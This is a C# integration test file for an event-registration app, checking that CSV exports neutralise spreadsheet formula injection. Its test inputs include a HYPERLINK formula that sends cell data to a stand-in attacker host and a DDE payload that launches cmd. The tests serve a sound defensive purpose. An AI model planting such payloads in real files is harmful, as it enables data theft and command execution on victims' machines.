using CsvHelper;
using DaysOfClusters.IntegrationTests.Registrations;
using DaysOfClusters.Web.Features.Registration;
using DaysOfClusters.Web.Features.Statistics;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace DaysOfClusters.IntegrationTests.Hardening;

/// <summary>
/// CSV formula injection: a name or organisation typed on the public form as <c>=HYPERLINK(...)</c> must not become a live
/// formula in the organisers' spreadsheet, while the registration import still reads such a cell back unchanged.
/// </summary>
public sealed class CsvFormulaInjectionTests(RegistrationAppFactory app) : IClassFixture<RegistrationAppFactory>
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Click\")";
    private static readonly char[] FormulaStarts = ['=', '+', '-', '@', '\t', '\r'];

    [Fact]
    public async Task RegistrationExport_WhenCellsStartWithFormulaCharacters_EscapesThemAndImportReadsThemBack()
    {
        var (edition, _) = await app.CreateEditionAsync(capacity: 100);
        var input = RegistrationAppFactory.ValidInput("formula@example.org", edition);
        input.FirstName = Hyperlink;
        input.LastName = "+Plus";
        input.Organisation = "@SUM(1+1)";
        input.JobTitle = "-2+3";
        input.Phone = "+381 64 123 4567";
        input.DietaryNeeds = "\tcmd|' /C calc'!A0";
        var registered = await app.Writer.RegisterAsync(edition.Id, input, RegistrationCaller.Attendee(null));
        Assert.True(registered.Succeeded, string.Join("; ", registered.Errors.SelectMany(e => e.Value)));

        var bytes = await app.Services.GetRequiredService<RegistrationDesk>().ExportCsvAsync(new DeskFilter(edition.Id));

        var text = System.Text.Encoding.UTF8.GetString(bytes);
        var fields = AllFields(text);
        Assert.Contains(fields, f => f.StartsWith("'=HYPERLINK", StringComparison.Ordinal));
        Assert.DoesNotContain(fields, f => f.Length > 0 && FormulaStarts.Contains(f[0]));

        // Round trip: the exported file imported into another edition gives back exactly what was typed.
        var (other, _) = await app.CreateEditionAsync(capacity: 100);
        var import = app.Services.GetRequiredService<RegistrationImport>();
        var preview = await import.PreviewAsync(other.Id, text);
        var row = Assert.Single(preview.Rows);
        Assert.True(row.IsValid, string.Join("; ", row.Errors.Select(e => $"{e.Field}: {e.Message}")));
        await import.ImportAsync(other.Id, preview, RegistrationCaller.Organiser("import:test"));
        await using var db = await app.DbAsync();
        var imported = await db.Registrations.SingleAsync(r => r.EditionId == other.Id);
        Assert.Equal((Hyperlink, "+Plus", "@SUM(1+1)", "-2+3"), (imported.FirstName, imported.LastName, imported.Organisation, imported.JobTitle));
    }

    [Fact]
    public void StatisticsCsv_WhenLabelsStartWithFormulaCharacters_EscapesEveryTableButKeepsNumbersNumeric()
    {
        static StatRow[] Rows(string what) => [new StatRow("=1+1", $"{Hyperlink} {what}", 3, 2), new StatRow("@x", "-minus", 1, 0), new StatRow("+x", "\tTab", 0, 0)];
        var report = new StatisticsReport(1, "=scope", Headline.Empty, Rows("country"), Rows("continent"), Rows("region"), Rows("type"), Rows("pillar"), Rows("category"),
            new RegistrationTimeline(null, null, [new TimelinePoint(new DateOnly(2027, 1, 1), 4, 4)]),
            [new ArrivalDay("=Edition", new DateOnly(2027, 10, 14), 5)],
            [new EditionGrowth(1, 8, "=8th edition", 2027, 10, 5, -12.5, 3, 2, 4, ["=RS", "BG"])])
        {
            Organisations = Rows("organisation"),
            NetworkMembership = Rows("members"),
        };

        foreach (var table in StatisticsCsv.Tables)
        {
            var fields = AllFields(System.Text.Encoding.UTF8.GetString(StatisticsCsv.Write(report, table)!));
            Assert.DoesNotContain(fields, f => f.Length > 0 && FormulaStarts.Contains(f[0]) && f != "-12.5");
            if (table == "editions") Assert.Contains("-12.5", fields); // a negative growth stays a number, not text
        }
    }

    private static List<string> AllFields(string csv)
    {
        var reader = CsvReader.FromText(csv.TrimStart('\uFEFF'), new CsvReaderOptions { HasHeader = false });
        var fields = new List<string>();
        while (reader.Read())
            for (var i = 0; i < reader.FieldCount; i++) fields.Add(reader.GetString(i));
        return fields;
    }
}
